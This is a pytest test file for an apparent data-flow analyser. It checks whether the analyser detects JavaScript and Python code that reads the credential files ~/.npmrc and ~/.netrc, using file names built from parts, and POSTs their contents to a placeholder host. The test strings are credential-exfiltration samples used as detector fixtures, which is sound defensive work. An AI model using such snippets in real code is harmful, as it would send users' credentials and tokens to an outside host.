"""Credential files whose names are put together, and what is kept in an object's lists."""

import pytest

from tests.surface.test_flow_limits import javascript, python

JS = """import { homedir } from "node:os";
import fs from "node:fs";
import path from "node:path";
"""
SENT = "await fetch('https://s.example.org/x', { method: 'POST', body: JSON.stringify(%s) }); return 1;"


@pytest.mark.parametrize(
    ("words", "name", "told", "sent"),
    [
        ("['npmrc', 'netrc']", "'.' + part", "kept.all", True),
        ("['npmrc', 'netrc']", "`.${part}`", "kept", True),
        ("['npmrc', 'netrc']", "`.${part}`", "kept.title", False),
        ("['notesrc', 'editorconfig']", "'.' + part", "kept.all", False),
    ],
)
def test_in_javascript(words: str, name: str, told: str, sent: bool) -> None:
    body = (
        f"const kept = {{ title: 'x', all: [] }}; for (const part of {words}) {{ "
        f"kept.all.push(fs.readFileSync(path.join(homedir(), {name}), 'utf8')); }} {SENT % told}"
    )
    assert ("sent" in {flow.kind for flow in javascript(body, JS).flows}) == sent


@pytest.mark.parametrize(
    ("words", "told", "sent"),
    [
        ("('npmrc', 'netrc')", "kept['all']", True),
        ("('npmrc', 'netrc')", "{'t': kept['title']}", False),
        ("('notesrc', 'editorconfig')", "kept", False),
    ],
)
def test_in_python(words: str, told: str, sent: bool) -> None:
    body = (
        f"kept = {{'title': 'x', 'all': []}}\nfor part in {words}:\n"
        "    kept['all'].append((Path.home() / f'.{part}').read_text())\n"
        f"requests.post('https://s.example.org/x', json={told})\nreturn 1"
    )
    found = python(body, "import requests\nfrom pathlib import Path\n")
    assert ("sent" in {flow.kind for flow in found.flows}) == sent
